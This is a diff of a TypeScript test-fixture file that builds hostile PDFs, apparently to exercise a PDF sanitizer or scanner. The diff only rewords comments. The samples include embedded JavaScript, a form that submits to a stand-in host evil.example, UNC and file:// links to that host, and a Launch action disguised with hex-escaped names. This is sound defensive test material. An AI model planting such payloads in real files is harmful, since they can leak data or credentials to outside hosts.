@@ -24,7 +24,7 @@ interface Parts {
   trailer?: string;
 }
 
-/** One page as it is written by hand; further objects have numbers from 5. */
+/** A page written by hand; further objects are numbered from 5. */
 export function handwrittenPdf(parts: Parts = {}): Buffer {
   return Buffer.concat([
     Buffer.from('%PDF-1.7\n'),
@@ -37,7 +37,7 @@ export function handwrittenPdf(parts: Parts = {}): Buffer {
   ]);
 }
 
-/** One object and then nothing but spaces, as a list of objects. */
+/** One object followed by white space, as an object stream. */
 const listOf = (bytes: number): Buffer => Buffer.concat([Buffer.from('99 0 (a)'), Buffer.alloc(bytes, ' ')]);
 
 export const objectList = (number: number, filter: string, bytes: Buffer): Buffer =>
@@ -63,7 +63,7 @@ async function written(
   return Buffer.from(await document.save({ useObjectStreams }));
 }
 
-/** What can do something, carries a file, or leads to one. */
+/** PDFs with active content, embedded files or links to files. */
 export async function activePdfs(): Promise<HostilePdf[]> {
   const active: [string, Buffer][] = [
     ['a script for opening', await written((document) => document.addJavaScript('hello', 'app.alert(1)'))],
@@ -100,7 +100,7 @@ export async function activePdfs(): Promise<HostilePdf[]> {
       annotated('/Subtype /Link /A << /S /GoToR /F << /UF (\\\\\\\\evil.example\\\\a.pdf) >> >>'),
     ],
     ['an embedded document', opens('<< /S /GoToE /T << /R /C >> >>')],
-    ['a form that sends itself', opens('<< /S /SubmitForm /F (http://evil.example) >>')],
+    ['a form that submits itself', opens('<< /S /SubmitForm /F (http://evil.example) >>')],
     ['a form that reads a file', opens('<< /S /ImportData /F (a.fdf) >>')],
     [
       'a form in XML',
@@ -117,7 +117,7 @@ export async function activePdfs(): Promise<HostilePdf[]> {
     ['a link to another machine', linked('(\\\\\\\\evil.example\\\\share)')],
     ['a link with a script', linked('(java script:alert\\(1\\))')],
     ['a link in hexadecimal', linked(PDFHexString.fromText('file://evil.example/a').toString())],
-    ['a base for links on another machine', handwrittenPdf({ catalog: '/URI << /Base (file://evil.example/) >>' })],
+    ['a base URL on another host', handwrittenPdf({ catalog: '/URI << /Base (file://evil.example/) >>' })],
     ['names written in numbers', opens('<< /#53 /L#61unch >>')],
     ['the key of a script written in numbers', handwrittenPdf({ catalog: '/#4aS (app.alert\\(1\\))' })],
     [
@@ -142,7 +142,7 @@ export async function activePdfs(): Promise<HostilePdf[]> {
   return active.map(([what, bytes]): HostilePdf => [what, bytes, 'pdf_active']);
 }
 
-/** What no viewer could show, or only at the price of everything else. */
+/** PDFs that are damaged or exhaust resources. */
 export async function unreadablePdfs(): Promise<HostilePdf[]> {
   const honest = await written(() => undefined);
   const xref = '/Type /XRef /Root 1 0 R /Size 5';
